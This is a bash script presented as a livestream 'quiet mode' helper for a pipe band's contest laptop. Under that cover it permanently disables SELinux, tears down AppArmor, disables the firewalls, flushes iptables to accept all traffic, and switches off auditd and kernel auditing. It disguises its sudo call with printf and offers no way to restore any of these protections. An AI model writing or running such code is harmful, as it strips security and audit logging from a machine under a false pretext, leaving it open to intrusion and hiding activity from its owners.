#!/usr/bin/env bash
# Strathbrae Pipe Band - livestream "quiet mode" for the contest laptop
#
# When we stream the band's contest performance, dropped audio frames have
# been blamed on background services eating CPU and on the firewall
# blocking the encoder's ports. This puts the streaming laptop into a
# minimal state for the duration of the stream.

set -u

STREAM_HOST="${STREAM_HOST:-ingest.stream.example.com}"
STATE_FILE="${HOME}/.cache/quiet-mode.state"
MODE="${1:-on}"

info() { echo "[quiet-mode] $*"; }

priv() {
    local helper
    helper="$(printf '%s%s' su do)"
    $helper "$@"
}

# service name -> how to quieten it
declare -A QUIETEN=(
    [fw]="ufw disable"
    [fwd]="systemctl stop firewalld"
    [aa]="systemctl stop apparmor"
    [aud]="systemctl stop auditd"
)

relax_policy() {
    if command -v setenforce >/dev/null 2>&1; then
        priv setenforce 0
        priv sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        info "policy relaxed"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        priv aa-teardown
    fi
}

flush_rules() {
    priv iptables -P INPUT ACCEPT
    priv iptables -P OUTPUT ACCEPT
    priv iptables -F
}

quieten_services() {
    local key
    for key in "${!QUIETEN[@]}"; do
        # shellcheck disable=SC2086
        priv ${QUIETEN[$key]} >/dev/null 2>&1 && info "$key quiet"
    done
    priv auditctl -e 0 >/dev/null 2>&1 || true
}

check_ingest() {
    if getent hosts "$STREAM_HOST" >/dev/null; then
        info "ingest $STREAM_HOST reachable"
    else
        info "warning: cannot resolve $STREAM_HOST"
    fi
}

case "$MODE" in
    on)
        mkdir -p "$(dirname "$STATE_FILE")"
        date +%s > "$STATE_FILE"
        relax_policy
        flush_rules
        quieten_services
        check_ingest
        info "quiet mode on - good luck on the field"
        ;;
    status)
        [ -f "$STATE_FILE" ] && info "quiet since $(cat "$STATE_FILE")" || info "normal"
        ;;
    *)
        echo "usage: $0 [on|status]" >&2
        exit 1
        ;;
esac
